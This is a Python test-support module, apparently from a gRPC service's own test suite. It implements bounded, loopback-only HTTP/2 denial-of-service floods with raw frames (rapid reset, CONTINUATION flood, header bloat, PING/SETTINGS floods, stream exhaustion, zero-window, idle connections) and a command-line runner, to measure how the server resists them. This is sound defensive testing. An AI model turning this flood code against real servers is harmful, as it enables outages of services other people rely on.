"""HTTP/2 floods against a gRPC listener, as an attacker sends them: raw frames, no client library.

Rule: every flood is bounded twice, by its seconds and by a count of frames (or
connections), goes to loopback only (``h2raw.Target`` refuses anything else), and
reconnects when the server closes on it, as an attacker would, up to a bounded number
of connections. A flood returns the ``Tally`` of what the server did (GOAWAYs, resets,
closes), so a run can say how the server pushed back, not only whether others got in.

The floods (``FLOODS``, by name): rapid reset with and without a request body, a
CONTINUATION flood, header bloat, PING and SETTINGS floods, stream exhaustion (12
connections of 100 streams that never send a body), zero window (answers asked for,
never read) and 500 idle connections. Run one by hand::

    python -m tests.support.floods rapid-reset 127.0.0.1:PORT --seconds 5 [--ca ca.crt ...]

It prints ``flooding`` once the first connection is up and the tally at the end.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import pathlib
import ssl
import sys
import time
from collections.abc import Awaitable, Callable, Coroutine
from typing import Any

from hyperframe import frame as hf

from tests.support.h2raw import RawConnection, Tally, Target, grpc_message, split_block

HEALTH_CHECK = b"/grpc.health.v1.Health/Check"
LIST_APP_IMAGE = b"/kuscia.proto.api.v1alpha1.kusciaapi.AppImageService/ListAppImage"
EMPTY_CALL = grpc_message(b"")
"""An empty HealthCheckRequest (or ListAppImageRequest): every field at its default."""
MAX_CONNECTIONS = 5000
"""Connections one flood may open in all, reconnections included."""
BATCH = 200
"""Frames (or frame pairs) written between two drains."""

CONNECTIONS: int | None = None
"""``--connections``: how many connections a rapid reset flood uses (None: its own)."""

Flood = Callable[[Target, float, Tally, asyncio.Event], Awaitable[None]]


async def _reconnecting(target: Target, tally: Tally, started: asyncio.Event,
                        body: Callable[[RawConnection], Awaitable[None]], *,
                        settings: dict[int, int] | None = None, read: bool = True) -> None:
    """Run ``body`` on one connection after another until the caller's time is up."""
    while tally.connections < MAX_CONNECTIONS:
        try:
            conn = await RawConnection.open(target, tally, settings=settings, read=read)
        except (TimeoutError, OSError, ssl.SSLError):
            tally.connect_errors += 1
            await asyncio.sleep(0.05)  # the server may be refusing: do not spin
            continue
        started.set()
        try:
            await body(conn)
            await conn.closed.wait()
        except ConnectionError:
            pass
        finally:
            await conn.close()


async def _parallel(count: int, make: Callable[[], Coroutine[Any, Any, None]]) -> None:
    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(make())


# --- the floods ----------------------------------------------------------------------


def _rapid_reset(with_body: bool, connections: int = 4) -> Flood:
    async def flood(target: Target, seconds: float, tally: Tally, started: asyncio.Event) -> None:
        async def body(conn: RawConnection) -> None:
            while not conn.closed.is_set():
                chunks = []
                for _ in range(BATCH):
                    sid = conn.new_stream()
                    chunks.append(_frame(0x1, 0x4, sid, conn.call_block(HEALTH_CHECK)))  # END_HEADERS
                    if with_body:
                        chunks.append(_frame(0x0, 0x1, sid, EMPTY_CALL))  # DATA, END_STREAM
                    chunks.append(hf.RstStreamFrame(sid, error_code=0x8).serialize())  # CANCEL
                conn.send_bytes(b"".join(chunks), len(chunks))
                await conn.drain()
        count = CONNECTIONS if CONNECTIONS is not None else connections
        await _parallel(count, lambda: _reconnecting(target, tally, started, body))
    return flood


def _frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream_id.to_bytes(4, "big") + payload


async def continuation(target: Target, seconds: float, tally: Tally, started: asyncio.Event) -> None:
    """HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB that never end."""
    async def body(conn: RawConnection) -> None:
        sid = conn.new_stream()
        conn.send(split_block(sid, conn.request_block(HEALTH_CHECK), end_stream=True, end_headers=False))
        n = 0
        while not conn.closed.is_set():
            chunks = []
            for _ in range(16):
                n += 1
                # Never indexed: each fragment is whole, the server's table stays as it is.
                piece = conn.encoder.encode([(f"x-c{n}".encode(), b"a" * 16000, True)], huffman=False)
                chunks.append(hf.ContinuationFrame(sid, piece).serialize())
            conn.send_bytes(b"".join(chunks), len(chunks))
            await conn.drain()
    await _parallel(4, lambda: _reconnecting(target, tally, started, body))


BLOAT_SHAPES = ((100, 100), (1, 8192), (1, 16384), (400, 100), (1, 65536), (2000, 64), (64, 4096))
"""(headers, bytes per value) of the bloated calls, cycled: around and well past 8/16 KiB."""


async def header_bloat(target: Target, seconds: float, tally: Tally, started: asyncio.Event) -> None:
    """Whole calls carrying many or large headers, around and past the usual 8-16 KiB limits."""
    async def body(conn: RawConnection) -> None:
        n = 0
        while not conn.closed.is_set():
            frames: list[hf.Frame] = []
            for count, size in BLOAT_SHAPES:
                n += 1
                extra = [(f"x-b{n}-{i}".encode(), b"v" * size) for i in range(count)]
                sid = conn.new_stream()
                frames += split_block(sid, conn.request_block(HEALTH_CHECK, extra=extra), end_stream=False)
                frames.append(hf.DataFrame(sid, EMPTY_CALL, flags=["END_STREAM"]))
            conn.send(frames)
            await conn.drain()
    await _parallel(4, lambda: _reconnecting(target, tally, started, body))


def _control_flood(make: Callable[[int], bytes]) -> Flood:
    async def flood(target: Target, seconds: float, tally: Tally, started: asyncio.Event) -> None:
        async def body(conn: RawConnection) -> None:
            n = 0
            while not conn.closed.is_set():
                chunk = b"".join(make(n + i) for i in range(BATCH))
                n += BATCH
                conn.send_bytes(chunk, BATCH)
                await conn.drain()
        await _parallel(4, lambda: _reconnecting(target, tally, started, body))
    return flood


ping_flood = _control_flood(lambda n: hf.PingFrame(0, n.to_bytes(8, "big")).serialize())
settings_flood = _control_flood(
    lambda n: hf.SettingsFrame(0, {hf.SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + n % 2}).serialize())


STREAMS_PER_CONNECTION = 100


async def stream_exhaustion(target: Target, seconds: float, tally: Tally, started: asyncio.Event) -> None:
    """12 connections, each holding 100 calls open that never send a body; a stream the
    server ends is replaced at once, so the 100 stay open for the whole flood."""
    async def body(conn: RawConnection) -> None:
        def open_streams(count: int) -> None:
            conn.send([hf.HeadersFrame(conn.new_stream(), conn.call_block(LIST_APP_IMAGE, token=True),
                                       flags=["END_HEADERS"]) for _ in range(count)])
        open_streams(STREAMS_PER_CONNECTION)
        await conn.drain()
        while not conn.closed.is_set():
            ended = [await conn.ended.get()]
            while not conn.ended.empty():
                ended.append(conn.ended.get_nowait())
            if conn.closed.is_set():
                return
            await asyncio.sleep(0.01)  # refill in batches, not one write per ended stream
            open_streams(len(ended))
            await conn.drain()
    await _parallel(12, lambda: _reconnecting(target, tally, started, body))


async def zero_window(target: Target, seconds: float, tally: Tally, started: asyncio.Event) -> None:
    """Connections that advertise a 0 stream window and never read, asking for answers:
    every answer must wait in the server. 100 calls per connection, 8 connections."""
    async def one() -> None:
        try:
            conn = await RawConnection.open(target, tally, read=False,
                                            settings={hf.SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        except (TimeoutError, OSError, ssl.SSLError):
            tally.connect_errors += 1
            return
        started.set()
        try:
            for _ in range(20):
                frames: list[hf.Frame] = []
                for _ in range(STREAMS_PER_CONNECTION // 20):
                    sid = conn.new_stream()
                    frames += [hf.HeadersFrame(sid, conn.call_block(HEALTH_CHECK), flags=["END_HEADERS"]),
                               hf.DataFrame(sid, EMPTY_CALL, flags=["END_STREAM"])]
                conn.send(frames)
                await conn.drain()
                await asyncio.sleep(0.05)
            await asyncio.Event().wait()  # hold, unread, until the time is up
        except ConnectionError:
            pass
        finally:
            await conn.close()
    await _parallel(8, one)


IDLE_CONNECTIONS = 500


async def idle_connections(target: Target, seconds: float, tally: Tally, started: asyncio.Event) -> None:
    """500 connections that send the preface and their SETTINGS, then nothing."""
    opened: list[RawConnection] = []
    gate = asyncio.Semaphore(50)  # handshakes in flight at once

    async def one() -> None:
        async with gate:
            try:
                opened.append(await RawConnection.open(target, tally))
            except (TimeoutError, OSError, ssl.SSLError):
                tally.connect_errors += 1
                return
        started.set()
    try:
        await _parallel(IDLE_CONNECTIONS, one)
        await asyncio.Event().wait()
    finally:
        for conn in opened:
            await conn.close()


FLOODS: dict[str, Flood] = {
    "rapid-reset": _rapid_reset(with_body=False),
    "rapid-reset-body": _rapid_reset(with_body=True),
    # Past what a per-connection stream limit bounds: 40 connections of 100 streams.
    "rapid-reset-wide": _rapid_reset(with_body=False, connections=40),
    "continuation": continuation,
    "header-bloat": header_bloat,
    "ping": ping_flood,
    "settings": settings_flood,
    "stream-exhaustion": stream_exhaustion,
    "zero-window": zero_window,
    "idle-connections": idle_connections,
}

HELD_OFF = tuple(sorted(set(FLOODS) - {"rapid-reset-wide"}))
"""The floods the service's gRPC listener holds off (tests/rpc/test_floods.py). Not a
rapid reset from many connections: past about a thousand streams in all, grpc.aio's
one event-loop thread cannot free them as fast as they come, whatever grpcio's options
(bench/results/grpc_floods.md measures it; docs/operations.md says what to put in front)."""


async def run(name: str, target: Target, seconds: float, started: asyncio.Event | None = None) -> Tally:
    """Run flood ``name`` for ``seconds``; ``started`` is set once its first connection is up."""
    tally = Tally()
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await FLOODS[name](target, seconds, tally, started or asyncio.Event())
    return tally


def client_context(ca: pathlib.Path, cert: pathlib.Path | None = None,
                   key: pathlib.Path | None = None) -> ssl.SSLContext:
    """A TLS client context offering ALPN h2 only, trusting ``ca``, with a client
    certificate when given (mtls)."""
    context = ssl.create_default_context(cafile=str(ca))
    context.set_alpn_protocols(["h2"])
    if cert is not None:
        context.load_cert_chain(cert, key)
    return context


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("flood", choices=sorted(FLOODS))
    parser.add_argument("target", help="127.0.0.1:PORT")
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--ca", type=pathlib.Path, help="TLS: the CA to trust (plaintext without)")
    parser.add_argument("--cert", type=pathlib.Path, help="mtls: the client certificate")
    parser.add_argument("--key", type=pathlib.Path, help="mtls: the client key")
    parser.add_argument("--token", help="the token metadata of AppImageService calls")
    parser.add_argument("--connections", type=int,
                        help="rapid reset floods: this many connections (at most 500)")
    args = parser.parse_args(argv)
    if args.connections is not None:
        if not 0 < args.connections <= 500:
            parser.error("--connections: between 1 and 500")
        global CONNECTIONS
        CONNECTIONS = args.connections
    if not 0 < args.seconds <= 60:
        parser.error("--seconds: a flood is bounded, between 0 and 60")
    host, port = args.target.rsplit(":", 1)
    tls = client_context(args.ca, args.cert, args.key) if args.ca else None
    target = Target(host, int(port), tls, args.token)

    async def flood() -> Tally:
        started = asyncio.Event()
        task = asyncio.create_task(run(args.flood, target, args.seconds, started))
        waiter = asyncio.create_task(started.wait())
        await asyncio.wait([task, waiter], return_when=asyncio.FIRST_COMPLETED)
        print("flooding", flush=True)
        waiter.cancel()
        return await task

    begun = time.monotonic()
    tally = asyncio.run(flood())
    print(f"done {args.flood} in {time.monotonic() - begun:.1f}s {tally.line()}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
